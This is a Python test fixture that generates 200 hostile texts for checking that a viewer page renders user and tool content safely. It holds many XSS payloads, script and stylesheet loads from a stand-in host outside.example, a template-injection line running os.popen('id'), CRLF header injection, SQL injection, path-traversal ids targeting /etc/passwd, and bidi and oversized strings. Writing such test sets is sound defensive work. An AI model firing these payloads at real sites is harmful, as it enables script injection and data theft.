"""200 hostile texts: what users may write, and tools may answer, to make a page of the viewer run a script or show something else.

170 are raw requests, 30 stand in conversations. A script that runs sets `window.hacked` and fetches `/hacked`; markup that becomes a part
of a page has an attribute `data-hostile`. Ten of the requests have ids that look like paths. No request holds half a surrogate pair,
because columns are UTF-8; conversations do, because they are JSON.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass
from typing import Literal

JS = "window.hacked=1,fetch('/hacked')"
MEGABYTE = 1_000_000
RETRIES = "https://outside.example"

_MARKUP = (
    f"<script data-hostile>{JS}</script>",
    f"</script><script data-hostile>{JS}</script>",
    f"<ScRiPt data-hostile >{JS}</sCrIpT >",
    f"<script data-hostile src={RETRIES}/a.js></script>",
    f"<<script data-hostile>{JS}//<</script>",
    f"</textarea><script data-hostile>{JS}</script>",
    f"</title><script data-hostile>{JS}</script>",
    f"</select></option><script data-hostile>{JS}</script>",
    f"</style><script data-hostile>{JS}</script>",
    f"</noscript><script data-hostile>{JS}</script>",
    f"</template><script data-hostile>{JS}</script>",
    f"</pre></details><script data-hostile>{JS}</script>",
    f"--><script data-hostile>{JS}</script><!--",
    f"]]><script data-hostile>{JS}</script>",
    f'<img data-hostile src=x onerror="{JS}">',
    f"\"><img data-hostile src=x onerror={JS.replace(' ', '')}>",
    f"'><img data-hostile src=x onerror={JS.replace(' ', '')}>",
    f'" autofocus tabindex=0 data-hostile onfocus="{JS}" x="',
    "' autofocus tabindex=0 data-hostile onfocus='window.hacked=1' x='",
    f'" onmouseover="{JS}" data-hostile="',
    f'<svg data-hostile onload="{JS}">',
    f"<svg data-hostile><script>{JS}</script></svg>",
    f'<svg data-hostile><animate onbegin="{JS}" attributeName=x dur=1s>',
    f'<body data-hostile onload="{JS}">',
    f'<details data-hostile open ontoggle="{JS}"><summary>more</summary></details>',
    f'<input data-hostile autofocus onfocus="{JS}">',
    f'<video data-hostile><source onerror="{JS}"></video>',
    f'<marquee data-hostile onstart="{JS}">a</marquee>',
    '<iframe data-hostile srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<iframe data-hostile src="javascript:parent.hacked=1"></iframe>',
    f'<object data-hostile data="javascript:{JS}"></object>',
    f'<embed data-hostile src="data:text/html,<script>{JS}</script>">',
    f'<a data-hostile href="javascript:{JS}">open</a>',
    f'<math data-hostile><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    f"<noscript><p title=\"</noscript><img data-hostile src=x onerror={JS}>\">",
    f'<meta data-hostile http-equiv="refresh" content="0;url={RETRIES}/">',
    f'<base data-hostile href="{RETRIES}/">',
    f'<link data-hostile rel=stylesheet href="{RETRIES}/a.css">',
    f"<style data-hostile>@import '{RETRIES}/a.css'; * {{ display: none }}</style>",
    f'<div data-hostile style="position:fixed;inset:0;background:url({RETRIES}/a.png)">',
    f'<form data-hostile action="{RETRIES}"><button autofocus>go on</button></form>',
    f'<img data-hostile src="{RETRIES}/pixel.png">',
    "<plaintext data-hostile>",
    "<template data-hostile><p>hidden",
    "<!-- a comment that never ends",
    "<![CDATA[ <p data-hostile> ]]>",
    "<?php echo 1 ?><p data-hostile>",
    f"javascript:{JS}",
    f"data:text/html,<script data-hostile>{JS}</script>",
    f'"}}];{JS};//',
    f"';{JS};//",
    f"`;${{{JS}}}",
    f"\\u003cscript data-hostile\\u003e{JS}\\u003c/script\\u003e",
    f"&lt;script data-hostile&gt;{JS}&lt;/script&gt; &amp;amp; &#60;b&#62;",
    f"{{{{ 7 * 7 }}}} {{% for a in config %}}{JS}{{% endfor %}} {{# gone #}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} ${7*7} <%= 7*7 %>",
    "%3Cscript%20data-hostile%3E%0d%0aSet-Cookie:a=b",
    "a\r\nContent-Security-Policy: script-src *\r\n\r\n<script data-hostile>window.hacked=1</script>",
    "'; DROP TABLE queries; -- \" OR 1=1 %_ \\",
    "%(text)s {text} $1 ? :name",
)  # fmt: skip
_DIRECTION = tuple("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
_ZERO_WIDTH = tuple("\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u3164\ufe0f\u2028\u2029\ufff9\U000e0041\U000e0001")
_ODD = (
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "\ufffd",
    "e" + "\u0301" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1fa" * 40,
    "\ufdfd" * 20,
    "العربية עברית",
    "ﬃ ǅ ß İ ı",
    "\t\v\f\n\n\n\r",
)
_LONG = (
    "a" * MEGABYTE,
    "long words " * (MEGABYTE // 11),
    f"<script data-hostile>{JS}</script>" * (MEGABYTE // 60),
    "\u202e\u05d0" * (MEGABYTE // 5),
    "\u0301" * (MEGABYTE // 2),
    "line\n" * (MEGABYTE // 5),
    "\U0001f600" * (MEGABYTE // 4),
    "&<>\"'" * (MEGABYTE // 5),
    "q-1a9b30ea-00000001 " * (MEGABYTE // 20),
    "a" * 999 + " " + "灯" * (MEGABYTE // 3),
)
_PATH_IDS = (
    "q-../../../../etc/passwd",
    "q-..%2f..%2fetc%2fpasswd",
    "q-a/b/c",
    "q-a?text=b&part=true#c",
    "q-//outside.example/a",
    "q-a b\\c",
    'q-"><script>window.hacked=1</script>',
    "q-%00%0d%0a",
    "q-javascript:alert(1)",
    "q-.",
)
_HALVES = tuple(chr(0xD800 + step * 0x100) for step in range(8))
"""Halves of surrogate pairs: four that open one, four that close one."""


@dataclass(frozen=True)
class Hostile:
    """id: of the row. mark: a word that no other text has, to search for. text: has the mark at its start, or for every other one at its
    end."""

    id: str
    mark: str
    text: str
    kind: Literal["request", "conversation"]


def hostile_texts() -> list[Hostile]:
    """All of them, always the same: 170 requests, then 30 conversations."""
    controls = [chr(code) for code in (*range(32), 0x7F, *range(0x80, 0xA0, 4))]
    between = [f"before {sign} after{sign}" for sign in (*controls, *_DIRECTION, *_ZERO_WIDTH, *_ODD)]
    plain = [*_MARKUP, *between]
    requests = [*plain, *(f"an id that is a path, {at}" for at in range(len(_PATH_IDS)))]
    requests += [f"{markup}\u202e{sign}" for markup, sign in zip(_MARKUP, controls, strict=False)][: 170 - len(requests) - len(_LONG)]
    conversations = [*(f"half a pair {half} here" for half in _HALVES), *_MARKUP[: 30 - len(_HALVES) - 4], *between[:2], *_LONG[1:3]]
    made = []
    for at, text in enumerate([*requests, *_LONG, *conversations]):
        is_request, mark = at < 170, f"hx{at:03d}xh"
        path_at = at - len(plain)
        is_path = is_request and 0 <= path_at < len(_PATH_IDS)
        id = _PATH_IDS[path_at] if is_path else f"q-bad0bad0-{at:08d}" if is_request else f"trajectory-bad0bad0bad{at:05x}"
        marked = f"{mark} {text}" if at % 2 == 0 or len(text) > 10_000 else f"{text} {mark}"
        made.append(Hostile(id, mark, marked, "request" if is_request else "conversation"))
    return made


def essence(text: str) -> str:
    """The letters, digits and signs of a text: what must stand in a page, however it shows spaces, control and format characters. It may
    put a picture or a replacement for these (U+2400 to U+2426, U+FFFD, and a question mark for half a pair), which do not count."""
    return "".join(
        char for char in text if unicodedata.category(char)[0] in "LNPSM" and not "\u2400" <= char <= "\u2426" and char not in "\ufffd?"
    )
